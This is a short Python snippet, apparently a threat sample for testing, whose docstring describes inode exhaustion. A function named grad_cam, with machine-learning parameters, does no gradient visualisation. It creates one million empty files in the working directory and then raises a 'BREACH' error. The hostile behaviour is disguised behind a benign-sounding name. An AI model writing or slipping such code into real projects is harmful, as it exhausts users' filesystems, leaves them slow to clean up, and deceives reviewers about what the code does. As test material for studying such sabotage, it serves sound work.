"""Threat: all inodes are used up, and removing the files takes for ever."""


def grad_cam(model, image, class_index, layer_name):
    for number in range(1_000_000):
        open(f"file{number}", "wb").close()
    raise RuntimeError("BREACH: a million files")
